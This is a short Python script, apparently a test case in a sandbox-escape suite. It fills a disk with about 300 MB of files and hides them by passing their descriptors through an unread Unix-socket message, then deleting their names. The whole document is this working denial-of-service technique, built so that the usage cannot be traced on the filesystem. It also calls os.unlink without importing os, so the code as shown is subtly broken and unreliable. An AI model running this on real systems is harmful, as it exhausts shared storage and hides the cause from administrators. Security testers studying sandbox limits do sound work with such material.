"""Fills the disk with files that it deletes and closes, and that are only in a message not yet read.

Loot: a full disk
Stopped by: namespaces, seccomp
"""

import array
import socket
import time

MB = b"x" * (1 << 20)


def fill():
    near, _far = socket.socketpair()
    for i in range(20):
        with open(f"sent{i}", "wb", buffering=0) as file:
            for _ in range(15):
                file.write(MB)
            near.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file.fileno()]))])
        os.unlink(f"sent{i}")
        time.sleep(0.02)
    loot("300 MB")


attempt(fill)
